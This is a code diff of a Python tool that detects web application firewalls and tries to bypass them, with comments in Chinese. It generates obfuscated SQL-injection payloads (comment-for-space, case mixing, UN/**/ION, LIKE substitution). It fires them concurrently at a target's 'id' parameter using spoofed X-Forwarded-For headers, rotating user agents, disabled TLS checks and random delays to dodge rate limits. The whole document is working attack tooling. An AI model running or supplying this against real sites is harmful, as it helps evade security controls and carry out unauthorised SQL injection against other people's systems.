@@ -1,61 +1,128 @@
 #!/usr/bin/env python3
 # -*- coding: utf-8 -*-
 
-import requests
+import httpx
 import random
 import time
-import json
-from typing import Dict, Any, List
+import re
+import orjson
+from concurrent.futures import ThreadPoolExecutor
+from typing import Dict, Any, List, Tuple
 from rich.console import Console
 from fake_useragent import UserAgent
 
 console = Console()
 
+# 并发测试payload的线程数
+_BYPASS_WORKERS = 8
+# HTTP客户端连接池大小
+_POOL_SIZE = 32
+# 预取的User-Agent数量
+_UA_POOL_SIZE = 32
+
+# 通用绕过替换规则 (原字符串, 替换字符串)
+_BYPASS_RULES = (
+    (' ', '/**/'),  # 注释符替换空格
+    ('SELECT', 'SeLeCt'),  # 大小写混淆
+    ('AND', '&&'),  # 逻辑运算符替换
+    ('OR', '||')
+)
+
+# WAF特定绕过技术
+_WAF_BYPASS_RULES = {
+    'cloudflare': (
+        ('=', ' LIKE '),
+        ('UNION', 'UN/**/ION')
+    ),
+    'akamai': (
+        ('\'', '\\\''),
+        ('"', '\\"')
+    )
+}
+
 class WAFBypass:
     def __init__(self):
         self.ua = UserAgent()
         self.results: Dict[str, Any] = {}
         
-        # WAF指纹特征
-        self.waf_signatures = {
+        # 预先取样一批User-Agent，请求时从中随机选取
+        self._ua_pool = [self.ua.random for _ in range(_UA_POOL_SIZE)]
+        
+        # 共用HTTP/2客户端，复用到目标的连接，支持HTTP/2的目标上并发请求多路复用
+        self._client = httpx.Client(
+            http2=True,
+            verify=False,
+            follow_redirects=True,
+            timeout=10,
+            limits=httpx.Limits(max_connections=_POOL_SIZE, max_keepalive_connections=_POOL_SIZE)
+        )
+        
+        # WAF指纹特征：特有的响应头名称
+        self.waf_header_signatures = {
             'cloudflare': [
                 'cf-ray',
-                '__cfduid',
                 'cf-cache-status'
             ],
             'akamai': [
                 'akamai-gtm',
                 'aka-debug'
+            ]
+        }
+        
+        # WAF指纹特征：出现在响应头取值中的Cookie名或产品标识
+        self.waf_value_signatures = {
+            'cloudflare': [
+                '__cfduid'
             ],
             'f5': [
                 'TS',
                 'F5-TrafficShield'
             ]
         }
+        
+        # 响应头名称特征直接按名称查询(响应头不区分大小写)
+        self._header_sigs: Dict[str, str] = {
+            name: waf
+            for waf, names in self.waf_header_signatures.items()
+            for name in names
+        }
+        
+        # 取值特征编译为一个正则，每个WAF对应一个分组，一次扫描完成匹配
+        self._value_waf_names = list(self.waf_value_signatures)
+        self._value_pattern = re.compile(
+            '|'.join(
+                '(' + '|'.join(re.escape(signature) for signature in signatures) + ')'
+                for signatures in self.waf_value_signatures.values()
+            ),
+            re.IGNORECASE
+        )
     
     def detect_waf(self, url: str) -> Dict[str, Any]:
         """检测目标是否使用WAF及类型"""
         try:
-            headers = {'User-Agent': self.ua.random}
-            response = requests.get(url, headers=headers, verify=False, timeout=10)
+            headers = {'User-Agent': random.choice(self._ua_pool)}
+            response = self._client.get(url, headers=headers)
             
-            detected_wafs = []
+            detected_wafs = set()
             
-            # 检查响应头
-            for waf_name, signatures in self.waf_signatures.items():
-                for signature in signatures:
-                    if signature.lower() in str(response.headers).lower():
-                        detected_wafs.append(waf_name)
-                        break
+            # 检查响应头名称
+            for name, waf in self._header_sigs.items():
+                if name in response.headers:
+                    detected_wafs.add(waf)
+            
+            # 检查响应头取值
+            value_blob = '\n'.join(response.headers.values())
+            for match in self._value_pattern.finditer(value_blob):
+                detected_wafs.add(self._value_waf_names[match.lastindex - 1])
             
             # 检查响应内容中的特征
             content = response.text.lower()
             if 'waf' in content or 'firewall' in content:
-                detected_wafs.append('generic_waf')
+                detected_wafs.add('generic_waf')
             
             self.results['waf_detection'] = {
                 'detected': len(detected_wafs) > 0,
-                'waf_types': list(set(detected_wafs))
+                'waf_types': list(detected_wafs)
             }
             
             return self.results['waf_detection']
@@ -66,27 +133,13 @@ class WAFBypass:
     
     def generate_bypass_payloads(self, original_payload: str, waf_type: str = None) -> List[str]:
         """生成WAF绕过payload"""
-        payloads = [
-            original_payload.replace(' ', '/**/'),  # 注释符替换空格
-            original_payload.replace('SELECT', 'SeLeCt'),  # 大小写混淆
-            original_payload.replace('AND', '&&'),  # 逻辑运算符替换
-            original_payload.replace('OR', '||'),
-            original_payload + '-- -'  # 注释符变体
-        ]
+        rules = _BYPASS_RULES + _WAF_BYPASS_RULES.get(waf_type, ())
         
-        # WAF特定绕过技术
-        if waf_type == 'cloudflare':
-            payloads.extend([
-                original_payload.replace('=', ' LIKE '),
-                original_payload.replace('UNION', 'UN/**/ION')
-            ])
-        elif waf_type == 'akamai':
-            payloads.extend([
-                original_payload.replace('\'', '\\\''),
-                original_payload.replace('"', '\\"')
-            ])
+        # dict.fromkeys 去重并保持生成顺序
+        payloads = dict.fromkeys(original_payload.replace(old, new) for old, new in rules)
+        payloads[original_payload + '-- -'] = None  # 注释符变体
         
-        return list(set(payloads))  # 去重
+        return list(payloads)
     
     def test_bypass(self, url: str, payloads: List[str]) -> Dict[str, Any]:
         """测试绕过payload的有效性"""
@@ -95,47 +148,59 @@ class WAFBypass:
             'failed_payloads': []
         }
         
-        for payload in payloads:
-            try:
-                # 随机延迟，避免触发频率限制
-                time.sleep(random.uniform(1, 3))
-                
-                # 构造请求
-                headers = {
-                    'User-Agent': self.ua.random,
-                    'X-Forwarded-For': f"192.168.{random.randint(1,255)}.{random.randint(1,255)}"
-                }
-                
-                response = requests.get(
-                    url,
-                    params={'id': payload},
-                    headers=headers,
-                    verify=False,
-                    timeout=10
-                )
-                
-                # 检查响应
-                if response.status_code == 200 and 'blocked' not in response.text.lower():
-                    results['successful_payloads'].append({
-                        'payload': payload,
-                        'status_code': response.status_code
-                    })
+        # 各payload的测试互不依赖，并发发送请求
+        with ThreadPoolExecutor(max_workers=_BYPASS_WORKERS) as executor:
+            for success, entry in executor.map(lambda payload: self._try_payload(url, payload), payloads):
+                if success:
+                    results['successful_payloads'].append(entry)
                 else:
-                    results['failed_payloads'].append({
-                        'payload': payload,
-                        'status_code': response.status_code
-                    })
-                    
-            except Exception as e:
-                console.print(f"[yellow]Payload测试失败: {payload} - {str(e)}[/yellow]")
-                results['failed_payloads'].append({
-                    'payload': payload,
-                    'error': str(e)
-                })
+                    results['failed_payloads'].append(entry)
         
         self.results['bypass_tests'] = results
         return results
     
+    def _try_payload(self, url: str, payload: str) -> Tuple[bool, Dict[str, Any]]:
+        """测试单个payload，返回 (是否绕过成功, 测试记录)"""
+        try:
+            # 随机延迟，避免触发频率限制
+            time.sleep(random.uniform(1, 3))
+            
+            # 构造请求
+            headers = {
+                'User-Agent': random.choice(self._ua_pool),
+                'X-Forwarded-For': f"192.168.{random.randint(1,255)}.{random.randint(1,255)}"
+            }
+            
+            response = self._client.get(
+                url,
+                params={'id': payload},
+                headers=headers
+            )
+            
+            # 检查响应
+            success = response.status_code == 200 and 'blocked' not in response.text.lower()
+            return success, {
+                'payload': payload,
+                'status_code': response.status_code
+            }
+                
+        except Exception as e:
+            console.print(f"[yellow]Payload测试失败: {payload} - {str(e)}[/yellow]")
+            return False, {
+                'payload': payload,
+                'error': str(e)
+            }
+    
+    def close(self) -> None:
+        """关闭HTTP客户端，释放连接"""
+        self._client.close()
+    
+    def __enter__(self) -> 'WAFBypass':
+        return self
+    
+    def __exit__(self, *exc_info) -> None:
+        self.close()
+    
     def get_effective_payloads(self) -> List[str]:
         """获取有效的绕过payload"""
         if 'bypass_tests' in self.results:
@@ -145,8 +210,8 @@ class WAFBypass:
     def export_results(self, filepath: str) -> None:
         """导出绕过测试结果"""
         try:
-            with open(filepath, 'w', encoding='utf-8') as f:
-                json.dump(self.results, f, indent=4)
+            with open(filepath, 'wb') as f:
+                f.write(orjson.dumps(self.results, option=orjson.OPT_INDENT_2 | orjson.OPT_NON_STR_KEYS))
             console.print(f"[green]WAF绕过结果已保存到: {filepath}[/green]")
         except Exception as e:
             console.print(f"[red]导出结果失败: {str(e)}[/red]") 
\ No newline at end of file